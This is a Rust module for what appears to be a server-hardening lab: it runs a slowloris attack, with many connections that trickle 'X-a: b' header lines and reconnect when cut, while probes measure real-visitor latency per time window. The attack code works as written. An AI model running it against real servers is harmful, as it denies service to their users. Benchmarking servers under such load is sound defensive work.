//! The slowloris benchmark of issue #14 (`mpm-lab slowloris`): prints figures, asserts nothing.
//!
//! 1. **Attack.** `connections` clients each open a connection, send a request line and two
//!    header lines, then one more header line (`X-a: b`) every `interval`, never the blank
//!    line that ends the header (the classic slowloris). A connection the server closes is
//!    counted as *cut*; with `reconnect` it is opened again at once (the tool's default keeps
//!    the pressure constant), without it the attack fades as the server cuts it.
//! 2. **Probe.** Meanwhile a fresh client connects every `probe_every`, sends a whole request
//!    and reads the whole response: its latency (connect to last byte) is what a real visitor
//!    sees. A probe that fails or takes longer than `probe_timeout` is an error.
//! 3. **Report** per time window (see [`Report`]): probes, errors, p50 and max latency, and how
//!    many slow connections the server had cut.
//!
//! Against Debian's defaults (`Timeout 300`, mod_reqtimeout's `header=20-40,MinRate=500`,
//! MaxRequestWorkers 150) a slow connection holds a prefork child or a worker thread until its
//! header stage runs out (20 s: the trickle is far below MinRate), and the connections waiting
//! in the listen backlog are not timed until a worker reads them.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// The attack and the probe.
#[derive(Debug, Clone)]
pub struct Attack {
    pub connections: usize,
    /// Between two header lines of one slow connection.
    pub interval: Duration,
    pub duration: Duration,
    pub reconnect: bool,
    pub probe_every: Duration,
    pub probe_timeout: Duration,
    /// Window boundaries in seconds from the start, e.g. `[20, 45]` → 0–20, 20–45, 45–end.
    pub windows: Vec<u64>,
}

/// One probe: when it started (from the attack's start) and its latency, or `None` = error.
type Probe = (Duration, Option<Duration>);

/// Figures for one time window.
#[derive(Debug, Clone, Default)]
pub struct Window {
    pub from_s: u64,
    pub to_s: u64,
    pub probes: usize,
    pub errors: usize,
    pub p50_ms: f64,
    pub max_ms: f64,
}

/// What one server did under the attack.
#[derive(Debug, Clone, Default)]
pub struct Report {
    pub label: String,
    /// Slow connections established at the start.
    pub opened: usize,
    /// Slow connections the server closed during the run.
    pub cut: usize,
    pub windows: Vec<Window>,
}

const SLOW_START: &[u8] =
    b"GET /index.html HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\n";

fn open_slow(addr: SocketAddr) -> Option<TcpStream> {
    let mut s = TcpStream::connect_timeout(&addr, Duration::from_secs(3)).ok()?;
    s.write_all(SLOW_START).ok()?;
    s.set_nonblocking(true).ok()?;
    Some(s)
}

/// Whether the server has closed (or answered, which it does only to close: a 408).
fn server_closed(s: &mut TcpStream) -> bool {
    let mut buf = [0u8; 512];
    match s.read(&mut buf) {
        Ok(_) => true,
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => false,
        Err(_) => true,
    }
}

/// Step 2: one fresh request, latency to the last byte.
fn probe(addr: SocketAddr, timeout: Duration) -> Option<Duration> {
    let t0 = Instant::now();
    let mut s = TcpStream::connect_timeout(&addr, timeout).ok()?;
    s.set_read_timeout(Some(timeout)).ok()?;
    s.write_all(b"GET /index.html HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
        .ok()?;
    let mut out = Vec::new();
    s.read_to_end(&mut out).ok()?;
    let ok = out.starts_with(b"HTTP/1.1 200");
    let took = t0.elapsed();
    (ok && took <= timeout).then_some(took)
}

/// Run the attack against `addr` (steps 1–3).
pub fn run(label: &str, addr: SocketAddr, attack: &Attack) -> Report {
    // Open the slow connections from a few threads: a connect to a server whose backlog is
    // full waits for SYN retries.
    let per = attack.connections.div_ceil(8).max(1);
    let opened: Vec<TcpStream> = std::thread::scope(|sc| {
        let hs: Vec<_> = (0..attack.connections.div_ceil(per))
            .map(|i| {
                let n = per.min(attack.connections - i * per);
                sc.spawn(move || (0..n).filter_map(|_| open_slow(addr)).collect::<Vec<_>>())
            })
            .collect();
        hs.into_iter()
            .flat_map(|h| h.join().unwrap_or_default())
            .collect()
    });
    let n_opened = opened.len();
    let start = Instant::now();
    let stop = Arc::new(AtomicBool::new(false));
    let cut = Arc::new(AtomicUsize::new(0));
    let probes: Arc<Mutex<Vec<Probe>>> = Arc::new(Mutex::new(Vec::new()));

    let prober = {
        let (stop, probes) = (Arc::clone(&stop), Arc::clone(&probes));
        let (every, timeout) = (attack.probe_every, attack.probe_timeout);
        std::thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) {
                let at = start.elapsed();
                let r = probe(addr, timeout);
                probes
                    .lock()
                    .unwrap_or_else(|e| e.into_inner())
                    .push((at, r));
                std::thread::sleep(every.saturating_sub(r.unwrap_or_default()));
            }
        })
    };

    // Step 1: keep the slow connections trickling; each has its own phase in the interval.
    let mut slots: Vec<(Option<TcpStream>, Instant)> = opened
        .into_iter()
        .enumerate()
        .map(|(i, s)| {
            let phase = attack
                .interval
                .mul_f64(i as f64 / attack.connections.max(1) as f64);
            (Some(s), start + phase)
        })
        .collect();
    while start.elapsed() < attack.duration {
        let now = Instant::now();
        for (slot, due) in slots.iter_mut() {
            if let Some(s) = slot {
                if server_closed(s) {
                    cut.fetch_add(1, Ordering::Relaxed);
                    *slot = None;
                } else if now >= *due {
                    if s.write_all(b"X-a: b\r\n").is_err() {
                        cut.fetch_add(1, Ordering::Relaxed);
                        *slot = None;
                    }
                    *due = now + attack.interval;
                }
            }
            if slot.is_none() && attack.reconnect {
                *slot = open_slow(addr);
                *due = now + attack.interval;
            }
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    stop.store(true, Ordering::Relaxed);
    let _ = prober.join();
    drop(slots);
    let probes = probes.lock().unwrap_or_else(|e| e.into_inner()).clone();
    Report {
        label: label.to_string(),
        opened: n_opened,
        cut: cut.load(Ordering::Relaxed),
        windows: windows(&probes, &attack.windows, attack.duration),
    }
}

/// Step 3: probes grouped by the window they started in.
fn windows(probes: &[Probe], bounds: &[u64], duration: Duration) -> Vec<Window> {
    let mut edges = vec![0];
    edges.extend(bounds.iter().copied().filter(|&b| b < duration.as_secs()));
    edges.push(duration.as_secs());
    edges
        .windows(2)
        .map(|w| {
            let (from, to) = (w[0], w[1]);
            let inside: Vec<&Probe> = probes
                .iter()
                .filter(|(at, _)| at.as_secs() >= from && at.as_secs() < to)
                .collect();
            let mut ok: Vec<Duration> = inside.iter().filter_map(|(_, r)| *r).collect();
            ok.sort();
            let ms = |d: Duration| d.as_secs_f64() * 1000.0;
            Window {
                from_s: from,
                to_s: to,
                probes: inside.len(),
                errors: inside.len() - ok.len(),
                p50_ms: ok.get(ok.len() / 2).map_or(f64::NAN, |d| ms(*d)),
                max_ms: ok.last().map_or(f64::NAN, |d| ms(*d)),
            }
        })
        .collect()
}

/// The printed table: one line per server and window.
pub fn table(reports: &[Report]) -> String {
    let mut out = format!(
        "{:<22} {:>7} {:>5} {:>9} {:>7} {:>7} {:>10} {:>10}\n",
        "server", "window", "slow", "cut", "probes", "errors", "p50 ms", "max ms"
    );
    for r in reports {
        for w in &r.windows {
            out.push_str(&format!(
                "{:<22} {:>7} {:>5} {:>9} {:>7} {:>7} {:>10.1} {:>10.1}\n",
                r.label,
                format!("{}-{}s", w.from_s, w.to_s),
                r.opened,
                r.cut,
                w.probes,
                w.errors,
                w.p50_ms,
                w.max_ms
            ));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn probes_fall_into_their_windows_and_errors_are_counted() {
        let s = Duration::from_secs;
        let ms = Duration::from_millis;
        let probes: Vec<Probe> = vec![
            (ms(100), Some(ms(3))),
            (s(5), None),
            (s(19), Some(ms(9))),
            (s(20), Some(ms(1))),
            (s(59), Some(ms(2))),
        ];
        let w = windows(&probes, &[20], s(60));
        assert_eq!(w.len(), 2);
        assert_eq!(
            (w[0].from_s, w[0].to_s, w[0].probes, w[0].errors),
            (0, 20, 3, 1)
        );
        assert_eq!((w[0].p50_ms, w[0].max_ms), (9.0, 9.0));
        assert_eq!(
            (w[1].probes, w[1].errors, w[1].p50_ms, w[1].max_ms),
            (2, 0, 2.0, 2.0)
        );
        assert!(
            table(&[Report {
                label: "x".into(),
                opened: 1000,
                cut: 5,
                windows: w
            }])
            .contains("20-60s")
        );
    }
}
